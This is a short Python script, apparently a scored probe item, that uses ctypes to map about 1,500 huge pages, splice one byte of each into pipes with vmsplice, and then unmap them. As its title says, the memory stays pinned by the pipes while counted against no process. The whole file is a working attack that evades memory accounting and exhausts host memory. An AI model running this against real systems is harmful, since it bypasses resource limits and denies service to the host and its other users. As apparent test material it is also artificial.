# title: Huge pages given to pipes a byte at a time, then unmapped: held by the pipe, in nobody's count
# base: solved
# score: 10
# error: PermissionError
# stock: unsafe
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
HUGE = 2 << 20
pipes = []
for number in range(1500):
    if number % 15 == 0:
        pipes.append(os.pipe())
    start = libc.mmap(None, 2 * HUGE, 3, 0x22, -1, 0)
    page = (start + HUGE - 1) // HUGE * HUGE
    libc.madvise(page, HUGE, 14)  # MADV_HUGEPAGE
    ctypes.memset(page, 1, 1)
    vector = (ctypes.c_void_p * 2)(page, 1)
    if libc.vmsplice(pipes[-1][1], vector, 1, 2) != 1:
        error = ctypes.get_errno()
        raise OSError(error, os.strerror(error))
    libc.munmap(start, 2 * HUGE)
